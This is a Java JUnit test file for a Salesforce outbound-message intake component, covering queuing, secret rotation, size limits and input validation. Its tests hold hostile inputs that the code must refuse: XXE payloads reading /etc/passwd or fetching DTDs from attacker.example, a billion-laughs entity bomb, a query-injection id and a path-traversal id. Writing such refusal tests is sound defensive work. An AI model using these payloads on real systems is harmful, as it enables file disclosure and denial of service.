package dev.cosell.operate.intake;

import static dev.cosell.operate.Problems.codeOf;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.verifyNoInteractions;

import dev.cosell.crm.SharedSecret;
import dev.cosell.fieldmap.FieldMapFile;
import dev.cosell.fieldmap.Side;
import dev.cosell.operate.work.HeldDeals;
import dev.cosell.problem.Problem;
import dev.cosell.problem.ProblemCode;
import dev.cosell.sync.memory.MemoryQueue;
import dev.cosell.sync.memory.MemoryStore;
import dev.cosell.sync.memory.SettableClock;
import dev.cosell.sync.port.Inbox;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Salesforce's events come in whole or not at all, whatever they are made of. */
class SalesforceIntakeTest {
    private static final String ORGANIZATION = "00D000000000001EAA";
    private static final String DEAL = "006000000000001AAA";

    private final List<String> queued = new ArrayList<>();
    private final SettableClock clock = new SettableClock(Instant.parse("2026-03-01T10:00:00Z"));
    private final MemoryStore store = new MemoryStore(clock, this::step);
    private final MemoryQueue queue = new MemoryQueue(clock, this::step);
    private final HeldDeals held = mock(HeldDeals.class);
    private Optional<String> storageAwayAt = Optional.empty();

    private final SalesforceIntake intake = new SalesforceIntake(
            new SharedSecret("s3cret", Optional.of("next")),
            "00D000000000001",
            FieldMapFile::salesforce,
            new Inbox(store, queue),
            held);

    @Test
    void everyRecordOfAMessageIsMarkedAndQueued() {
        accept(message(ORGANIZATION, notifications(100)));
        assertEquals(100, queued().size());
        assertTrue(queued().contains("crm|Opportunity/" + DEAL), () -> queued().toString());
    }

    @Test
    void aRecordThatIsToldTwiceInOneMessageIsOneHint() {
        accept(message(
                ORGANIZATION, notification("Opportunity", DEAL) + notification("Opportunity", "006000000000001")));
        assertEquals(List.of("crm|Opportunity/" + DEAL), queued());
    }

    @Test
    void aCalloutSaysTheSameInJson() {
        accept("{\"organizationId\": \"00D000000000001\", \"records\": [{\"object\": \"Lead\", \"id\": "
                + "\"00Q000000000001EAA\"}, {\"object\": \"Task\", \"id\": \"00T000000000001EAA\"}]}");
        assertEquals(List.of("crm|Lead/00Q000000000001EAA"), queued());
    }

    @Test
    void aChangeOfWhatDealsStandOnGivesHeldDealsAnotherTry() {
        accept(message(ORGANIZATION, notification("Account", "001000000000001AAA")));
        verify(held).retryForCustomers("Account changed");
        assertEquals(List.of(), queued());
    }

    @Test
    void bothSecretsAreGoodDuringARotationAndNoOtherIs() {
        byte[] body = message(ORGANIZATION, notifications(1)).getBytes(UTF_8);
        intake.accept(Optional.of("next"), body, "");
        assertRefused(ProblemCode.SECRET_WRONG, () -> intake.accept(Optional.of("S3CRET"), body, ""));
        assertRefused(ProblemCode.SECRET_WRONG, () -> intake.accept(Optional.empty(), body, ""));
        verifyNoInteractions(held);
    }

    @Test
    void aMessageOfAnotherOrganisationIsRefused() {
        assertRefused(ProblemCode.SECRET_WRONG, () -> accept(message("00D000000000002EAA", notifications(1))));
    }

    @Test
    void withoutStorageNothingIsAcknowledgedAndTheRetryBringsEverything() {
        storageAwayAt = Optional.of("before queue.send");
        assertEquals(ProblemCode.STORAGE_UNAVAILABLE, codeOf(() -> accept(message(ORGANIZATION, notifications(3)))));
        storageAwayAt = Optional.empty();
        accept(message(ORGANIZATION, notifications(3)));
        assertEquals(3, queued().stream().distinct().count());
    }

    @Test
    void tooManyNotificationsAreRefusedWhole() {
        assertRefused(ProblemCode.TOO_LARGE, () -> accept(message(ORGANIZATION, notifications(101))));
    }

    @Test
    void tooManyBytesAreRefusedUnread() {
        String long5 = "x".repeat(5 << 20);
        assertRefused(
                ProblemCode.TOO_LARGE, () -> accept(message(ORGANIZATION, notifications(1) + "<!--" + long5 + "-->")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">",
                "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>"
            })
    void noDocumentTypeIsEverLookedAt(String doctype) {
        String message = message(ORGANIZATION, notifications(1)).replace("?>", "?>" + doctype);
        assertRefused(ProblemCode.REQUEST_UNREADABLE, () -> accept(message));
        assertRefused(ProblemCode.REQUEST_UNREADABLE, () -> accept(message.replace(DEAL, "&xxe;")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "hello",
                "{",
                "{\"organizationId\": \"00D000000000001EAA\"}",
                "{\"organizationId\": \"00D000000000001EAA\", \"records\": [{\"object\": \"Opportunity\"}]}",
                "<Envelope/>",
                "<a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a>"
            })
    void whatIsNoEventIsRefused(String body) {
        assertRefused(ProblemCode.REQUEST_UNREADABLE, () -> accept(body));
    }

    @Test
    void idsAndObjectsAreCheckedBeforeTheyBecomePartOfAnything() {
        for (String id : List.of("006000000000001' OR Id != '", "../../Account/001", "")) {
            assertRefused(
                    ProblemCode.REQUEST_UNREADABLE,
                    () -> accept(message(ORGANIZATION, notification("Opportunity", id) + notifications(1))
                            .replace("<sf:Id></sf:Id>", "<sf:Id> </sf:Id>")));
        }
        assertRefused(
                ProblemCode.REQUEST_UNREADABLE,
                () -> accept(message(ORGANIZATION, notification("Opportunity/../x", DEAL))));
    }

    @Test
    void anotherEncodingIsRefusedSaidOrNot() {
        String message = message(ORGANIZATION, notifications(1));
        assertRefused(
                ProblemCode.REQUEST_UNREADABLE,
                () -> intake.accept(Optional.of("s3cret"), message.getBytes(UTF_16), ""));
        assertRefused(
                ProblemCode.REQUEST_UNREADABLE,
                () -> accept(message.replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"")));
    }

    private void accept(String body) {
        intake.accept(Optional.of("s3cret"), body.getBytes(UTF_8), "");
    }

    private void assertRefused(ProblemCode code, Executable request) {
        int before = queued().size();
        assertEquals(code, codeOf(request));
        assertEquals(before, queued().size());
    }

    /** Everything that was queued so far. */
    private List<String> queued() {
        Optional<MemoryQueue.Delivery> next = queue.poll(MemoryQueue.queueFrom(Side.CRM));
        while (next.isPresent()) {
            queued.add(next.get().work().subject().key());
            next = queue.poll(MemoryQueue.queueFrom(Side.CRM));
        }
        return queued;
    }

    private void step(String step) {
        if (storageAwayAt.filter(step::equals).isPresent()) {
            throw Problem.of(ProblemCode.STORAGE_UNAVAILABLE, "away").failure();
        }
    }

    private static String notifications(int count) {
        return IntStream.rangeClosed(1, count)
                .mapToObj(number -> notification("Opportunity", "006%012d".formatted(number)))
                .reduce("", String::concat);
    }

    private static String notification(String object, String id) {
        return "<Notification><Id>04l000000000001AAA</Id><sObject xsi:type=\"sf:" + object
                + "\" xmlns:sf=\"urn:sobject.enterprise.soap.sforce.com\"><sf:Id>" + id
                + "</sf:Id><sf:Name>A &amp; B</sf:Name></sObject></Notification>";
    }

    private static String message(String organization, String notifications) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><soapenv:Envelope "
                + "xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" "
                + "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"><soapenv:Body>"
                + "<notifications xmlns=\"http://soap.sforce.com/2005/09/outbound\"><OrganizationId>" + organization
                + "</OrganizationId><ActionId>04k000000000001AAA</ActionId><SessionId xsi:nil=\"true\"/>"
                + "<EnterpriseUrl>https://x</EnterpriseUrl>" + notifications
                + "</notifications></soapenv:Body></soapenv:Envelope>";
    }
}
